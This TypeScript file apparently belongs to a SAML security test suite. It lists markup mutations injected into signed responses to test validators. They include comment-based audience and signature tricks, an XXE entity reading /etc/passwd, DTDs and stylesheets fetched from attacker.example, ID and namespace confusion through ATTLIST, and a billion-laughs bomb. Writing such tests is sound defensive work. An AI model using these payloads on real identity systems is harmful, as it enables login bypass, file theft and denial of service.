import { assertions, conditions, type Fault } from './fault.ts'
import { type Edit, insertedAfter, insertedBefore, replaced, rewritten } from './text.ts'

const group = 'Markup'

/** Put in after signing. Canonicalization drops comments and resolves CDATA and entities, so that signatures still hold. */
function markup(name: string, title: string, after: Edit): Fault {
  return { name, title, group, after }
}

/** Markup between the first characters of an element's text and the rest. */
const inText = (element: string, addition: string): Edit =>
  rewritten(new RegExp(`(<${element}\\b[^>]*>[^<]{2})`), (start) => start + addition)

/** All the text of an element as a CDATA section. */
const asCdata = (element: string): Edit =>
  rewritten(
    new RegExp(`(<${element}\\b[^>]*>)([^<]+)`),
    (_all, start = '', text = '') => `${start}<![CDATA[${text}]]>`,
  )

const comment = '<!-- -->'
const instruction = '<?x y?>'
const doctype = (subset: string): Edit =>
  insertedBefore('<saml2p:Response', `<!DOCTYPE saml2p:Response ${subset}>`)
const audience = 'saml2:Audience'

/** What XML knows and SAML has no use for, everywhere it could hide something. */
export const markupFaults: readonly Fault[] = [
  markup('comment-in-digest-value', 'Comment in DigestValue', inText('ds:DigestValue', comment)),
  markup(
    'comment-in-signature-value',
    'Comment in SignatureValue',
    inText('ds:SignatureValue', comment),
  ),
  markup('comment-in-audience', 'Comment in Audience', inText(audience, comment)),
  markup('comment-in-issuer', 'Comment in Issuer', inText('saml2:Issuer', comment)),
  markup(
    'comment-in-attribute',
    'Comment in an attribute value',
    inText('saml2:AttributeValue', comment),
  ),
  markup(
    'comment-between-elements',
    'Comment between elements',
    insertedBefore('<saml2:Subject>', comment),
  ),
  markup(
    'comment-before-root',
    'Comment before the root element',
    insertedBefore('<saml2p:Response', comment),
  ),
  markup('comment-after-root', 'Comment after the root element', (xml) => xml + comment),
  markup('comment-in-key-info', 'Comment in KeyInfo', inText('ds:X509Certificate', comment)),
  {
    name: 'comment-hides-audience',
    title: 'Comment in Audience, hiding its second half',
    group,
    before: (spec, { facts }) =>
      assertions((it) => conditions(it, { audiences: [`${facts.audience}.evil.example`] }))(spec),
    after: replaced('.evil.example', `${comment}.evil.example`),
  },
  markup(
    'pi-before-root',
    'Processing instruction before the root element',
    insertedBefore('<saml2p:Response', '<?xml-stylesheet href="http://attacker.example/x.xsl"?>'),
  ),
  markup(
    'pi-after-root',
    'Processing instruction after the root element',
    (xml) => xml + instruction,
  ),
  markup(
    'pi-in-digest-value',
    'Processing instruction in DigestValue',
    inText('ds:DigestValue', instruction),
  ),
  markup('pi-in-audience', 'Processing instruction in Audience', inText(audience, instruction)),
  markup(
    'pi-in-key-info',
    'Processing instruction in KeyInfo',
    inText('ds:X509Certificate', instruction),
  ),
  markup(
    'xml-declaration-inside',
    'An XML declaration inside the document',
    insertedBefore('<saml2:Subject>', '<?xml version="1.0"?>'),
  ),
  markup('cdata-digest-value', 'DigestValue as CDATA section', asCdata('ds:DigestValue')),
  markup('cdata-audience', 'Audience as CDATA section', asCdata(audience)),
  markup('cdata-attribute', 'Attribute value as CDATA section', asCdata('saml2:AttributeValue')),
  markup('cdata-split', 'NameID in text and CDATA section by halves', (xml) =>
    rewritten(
      /(<saml2:NameID[^>]*>[^<]{2})([^<]+)/,
      (_all, start = '', rest = '') => `${start}<![CDATA[${rest}]]>`,
    )(xml),
  ),
  markup(
    'cdata-empty',
    'An empty CDATA section between elements',
    insertedBefore('<saml2:Subject>', '<![CDATA[]]>'),
  ),
  markup('doctype-internal-entity', 'An entity for the NameID', (xml) => {
    const nameId = /<saml2:NameID[^>]*>([^<]*)/.exec(xml)?.[1] ?? ''
    return insertedBefore(
      '<saml2p:Response',
      `<!DOCTYPE saml2p:Response [<!ENTITY who "${nameId}">]>`,
    )(replaced(`>${nameId}<`, '>&who;<')(xml))
  }),
  markup(
    'doctype-external-entity',
    'An external entity (XXE)',
    doctype('[<!ENTITY file SYSTEM "file:///etc/passwd">]'),
  ),
  markup(
    'doctype-parameter-entity',
    'A parameter entity from another server',
    doctype('[<!ENTITY % more SYSTEM "http://attacker.example/x.dtd"> %more;]'),
  ),
  markup(
    'doctype-external-subset',
    'A DTD from another server',
    doctype('SYSTEM "http://attacker.example/x.dtd"'),
  ),
  markup(
    'doctype-attlist-id',
    'A DTD that makes another attribute the ID',
    doctype('[<!ATTLIST saml2p:Status Name ID #IMPLIED>]'),
  ),
  markup(
    'doctype-attlist-namespace',
    'A DTD that gives elements another namespace',
    doctype('[<!ATTLIST saml2:NameID xmlns:saml2 CDATA "urn:evil">]'),
  ),
  markup('doctype-billion-laughs', 'Entities that grow ninefold nine times', (xml) => {
    const levels = Array.from(
      { length: 9 },
      (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(9)}">`,
    )
    return insertedBefore(
      '<saml2p:Response',
      `<!DOCTYPE r [<!ENTITY l0 "ha">${levels.join('')}]>`,
    )(insertedAfter('<saml2p:Status>', '&l9;')(xml))
  }),
]
